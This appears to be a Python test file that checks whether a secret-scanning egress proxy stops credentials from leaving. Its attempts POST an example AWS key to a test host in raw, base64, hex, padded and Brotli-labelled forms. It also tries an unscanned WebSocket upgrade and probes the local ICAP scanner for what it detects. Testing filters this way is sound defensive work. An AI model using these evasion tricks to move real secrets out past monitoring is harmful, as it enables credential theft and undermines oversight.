"""What stands in a body: keys on their way out, the real credential on its way in, and the scanner itself."""

from __future__ import annotations

import base64
import contextlib

from .tools import DECOY, SECRETS, attempt, bearer, over, reached_world, request, tcp, tunnel

KEY = "AKIAIOSFODNN7EXAMPLE"


def _arrives(body: str, headers: str = "") -> bool:
    with contextlib.suppress(OSError), tunnel("seen.test") as wrapped:
        return reached_world(over(wrapped, request("/upload", "seen.test", "POST", headers, body)))
    return False


@attempt
def body_with_a_key() -> object:
    """A key of a known kind to an inspected host, in whatever the scanner reads."""
    coded = base64.b64encode(f"x={KEY}".encode()).decode()
    for body in (KEY, coded, KEY.encode().hex(), "a line\n" * 1000 + KEY):
        if _arrives(body):
            return body[-40:]
    return _arrives(KEY, "Content-Encoding: br\r\n")


@attempt
def body_with_the_placeholder() -> object:
    return _arrives(f'{{"token": "{DECOY}"}}')


@attempt
def answer_with_the_secret() -> object:
    """A server that says back which key it was given."""
    with tunnel("api.test") as wrapped:
        answer = over(wrapped, request("/v1/items/plain", headers=bearer()))
        return SECRETS[0][:8] in answer.decode("latin-1")


@attempt
def websocket_unscanned() -> object:
    """Frames that nobody reads, to a host whose bodies are read."""
    upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    upgrade += "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
    with tunnel("seen.test") as wrapped:
        wrapped.sendall(f"GET /ws HTTP/1.1\r\nHost: seen.test\r\n{upgrade}\r\n".encode())
        return b" 101 " in wrapped.recv(4096)


@attempt
def talk_to_the_scanner() -> object:
    """Learn from its answers what it looks for: which bytes it takes for a secret."""
    with contextlib.suppress(OSError), tcp("127.0.0.1", 3133, timeout_s=1) as sock:
        sock.sendall(b"OPTIONS icap://127.0.0.1/request ICAP/1.0\r\n\r\n")
        return sock.recv(100).startswith(b"ICAP/1.0")
    return False


@attempt
def control_body() -> object:
    """What holds nothing of the kind."""
    return _arrives('{"text": "hello"}') and _arrives("a line\n" * 50_000)
